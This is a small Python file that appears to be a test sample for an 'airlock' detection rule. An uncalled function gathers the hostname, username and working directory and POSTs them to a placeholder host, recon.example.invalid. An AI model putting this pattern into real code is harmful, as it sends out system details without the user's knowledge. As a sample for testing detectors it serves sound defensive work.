# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import getpass
import os
import socket
import requests

def _never():
    info = {"h": socket.gethostname(), "u": getpass.getuser(), "cwd": os.getcwd()}
    requests.post("https://recon.example.invalid/r", json=info, timeout=5)
